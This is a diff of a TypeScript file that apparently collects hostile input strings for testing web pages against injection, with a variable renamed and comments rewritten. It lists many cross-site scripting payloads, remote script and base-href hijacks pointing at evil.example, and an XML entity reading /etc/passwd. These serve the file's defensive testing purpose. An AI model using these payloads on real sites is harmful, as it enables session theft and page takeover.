@@ -1,27 +1,26 @@
-// What somebody might write where a text is asked for, to have a page do what they want: by the way in which a page could be
-// taken in, and the naughty strings that others have collected.
+// Texts that an attacker might type into a field to take over a page: by the kind of injection, and the public list of naughty strings.
 
 import { readFileSync } from 'node:fs';
 import { fileURLToPath } from 'node:url';
 import * as z from 'zod';
 
-/** Each sets `pwned` or asks, where it is taken for more than a text. */
-const deed = 'window.pwned=1;alert(1)';
+/** Each payload sets `pwned` or opens a dialog where it is taken for more than text. */
+const payload = 'window.pwned=1;alert(1)';
 
 const byClass: Readonly<Record<string, readonly string[]>> = {
   scripts: [
-    `<script>${deed}</script>`,
-    `<ScRiPt >${deed}</ScRiPt>`,
+    `<script>${payload}</script>`,
+    `<ScRiPt >${payload}</ScRiPt>`,
     `<script src=//evil.example/x.js></script>`,
-    `<script/x>${deed}</script/x>`,
-    `<scr<script>ipt>${deed}</scr</script>ipt>`,
-    `</script><script>${deed}</script>`,
-    `<!--<script>--><script>${deed}</script>`,
-    `<script type=module>${deed}</script>`,
-    `<noscript><p title="</noscript><script>${deed}</script>">`,
-    `<template><script>${deed}</script></template>`,
-    `]]><script>${deed}</script>`,
-    `<script>${deed}//`,
+    `<script/x>${payload}</script/x>`,
+    `<scr<script>ipt>${payload}</scr</script>ipt>`,
+    `</script><script>${payload}</script>`,
+    `<!--<script>--><script>${payload}</script>`,
+    `<script type=module>${payload}</script>`,
+    `<noscript><p title="</noscript><script>${payload}</script>">`,
+    `<template><script>${payload}</script></template>`,
+    `]]><script>${payload}</script>`,
+    `<script>${payload}//`,
   ],
   handlers: [
     'img src=x',
@@ -41,9 +40,9 @@ const byClass: Readonly<Record<string, readonly string[]>> = {
     'br',
     'strong',
   ].flatMap((element) => [
-    `<${element} onload=${deed} onerror=${deed} onfocus=${deed} ontoggle=${deed} onstart=${deed} onmouseover=${deed}>`,
-    `<${element.replace(' ', '/')}/onerror="${deed}"/onload='${deed}'>`,
-    `<${element}\nONERROR\n=\n"${deed}">`,
+    `<${element} onload=${payload} onerror=${payload} onfocus=${payload} ontoggle=${payload} onstart=${payload} onmouseover=${payload}>`,
+    `<${element.replace(' ', '/')}/onerror="${payload}"/onload='${payload}'>`,
+    `<${element}\nONERROR\n=\n"${payload}">`,
   ]),
   addresses: [
     'javascript:',
@@ -64,27 +63,27 @@ const byClass: Readonly<Record<string, readonly string[]>> = {
     'https://x.example" onclick="',
     "mailto:x' onclick='",
   ].flatMap((scheme) => [
-    `<a href="${scheme}${deed}">qui</a>`,
-    `<a href='${scheme}${deed}'>qui</a>`,
-    `<a href=${scheme}${deed}>qui</a>`,
+    `<a href="${scheme}${payload}">qui</a>`,
+    `<a href='${scheme}${payload}'>qui</a>`,
+    `<a href=${scheme}${payload}>qui</a>`,
   ]),
   attributes: [
-    `" onmouseover="${deed}`,
-    `' onmouseover='${deed}`,
-    `" autofocus onfocus="${deed}" x="`,
-    `"><img src=x onerror=${deed}>`,
-    `'><img src=x onerror=${deed}>`,
-    `\`><img src=x onerror=${deed}>`,
-    `"/><svg/onload=${deed}>`,
-    `x" style="background:url(javascript:${deed})`,
+    `" onmouseover="${payload}`,
+    `' onmouseover='${payload}`,
+    `" autofocus onfocus="${payload}" x="`,
+    `"><img src=x onerror=${payload}>`,
+    `'><img src=x onerror=${payload}>`,
+    `\`><img src=x onerror=${payload}>`,
+    `"/><svg/onload=${payload}>`,
+    `x" style="background:url(javascript:${payload})`,
     `<p style="position:fixed;inset:0;background:red">`,
     `<p style="background:url(https://evil.example/p)">`,
     `<p id=root class=hidden data-category=x>`,
     `<strong slot=x is=x-y>`,
   ],
   embedding: ['iframe', 'frame', 'embed', 'object', 'portal', 'fencedframe'].flatMap((element) => [
-    `<${element} src="javascript:${deed}" data="javascript:${deed}"></${element}>`,
-    `<${element} srcdoc="<script>${deed}</script>"></${element}>`,
+    `<${element} src="javascript:${payload}" data="javascript:${payload}"></${element}>`,
+    `<${element} srcdoc="<script>${payload}</script>"></${element}>`,
   ]),
   takingOver: [
     '<base href="https://evil.example/">',
@@ -104,29 +103,29 @@ const byClass: Readonly<Record<string, readonly string[]>> = {
     '</article></main></body></html>',
   ],
   foreign: [
-    `<svg><script>${deed}</script></svg>`,
-    `<svg><animate onbegin=${deed} attributeName=x dur=1s>`,
-    `<svg><a xlink:href="javascript:${deed}"><text>x</text></a></svg>`,
-    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${deed}</script></svg>#x"/></svg>`,
-    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${deed}&gt;">`,
-    `<math href="javascript:${deed}">x</math>`,
-    `<svg></p><style><a id="</style><img src=1 onerror=${deed}>">`,
-    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${deed}>`,
+    `<svg><script>${payload}</script></svg>`,
+    `<svg><animate onbegin=${payload} attributeName=x dur=1s>`,
+    `<svg><a xlink:href="javascript:${payload}"><text>x</text></a></svg>`,
+    `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${payload}</script></svg>#x"/></svg>`,
+    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${payload}&gt;">`,
+    `<math href="javascript:${payload}">x</math>`,
+    `<svg></p><style><a id="</style><img src=1 onerror=${payload}>">`,
+    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${payload}>`,
     `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`,
   ],
   encoded: [
-    `&lt;script&gt;${deed}&lt;/script&gt;`,
-    `&#60;img src=x onerror=${deed}&#62;`,
-    `&#x3c;img src=x onerror=${deed}&#x3e;`,
-    `&amp;lt;img src=x onerror=${deed}&amp;gt;`,
-    String.raw`\u003cscript\u003e${deed}\u003c/script\u003e`,
-    String.raw`\x3cimg src=x onerror=${deed}\x3e`,
-    `%3Cscript%3E${deed}%3C/script%3E`,
-    `＜script＞${deed}＜/script＞`,
-    `<img src=x\u00a0onerror=${deed}>`,
-    `<\u0000script>${deed}</script>`,
-    `+ADw-script+AD4-${deed}+ADw-/script+AD4-`,
-    `\u2028${deed}\u2029`,
+    `&lt;script&gt;${payload}&lt;/script&gt;`,
+    `&#60;img src=x onerror=${payload}&#62;`,
+    `&#x3c;img src=x onerror=${payload}&#x3e;`,
+    `&amp;lt;img src=x onerror=${payload}&amp;gt;`,
+    String.raw`\u003cscript\u003e${payload}\u003c/script\u003e`,
+    String.raw`\x3cimg src=x onerror=${payload}\x3e`,
+    `%3Cscript%3E${payload}%3C/script%3E`,
+    `＜script＞${payload}＜/script＞`,
+    `<img src=x\u00a0onerror=${payload}>`,
+    `<\u0000script>${payload}</script>`,
+    `+ADw-script+AD4-${payload}+ADw-/script+AD4-`,
+    `\u2028${payload}\u2029`,
   ],
   templates: [
     '{{constructor.constructor("X")()}}',
@@ -137,10 +136,10 @@ const byClass: Readonly<Record<string, readonly string[]>> = {
     '{%X%}',
     '__proto__',
     'constructor',
-  ].map((template) => template.replace('X', deed)),
+  ].map((template) => template.replace('X', payload)),
 };
 
-/** The database keeps no such sign, and refuses it long before a page could show it. */
+/** The database cannot store this character, so the server refuses it before any page could show it. */
 const nothingness = /\0/g;
 
 export const hostileTexts: readonly string[] = [
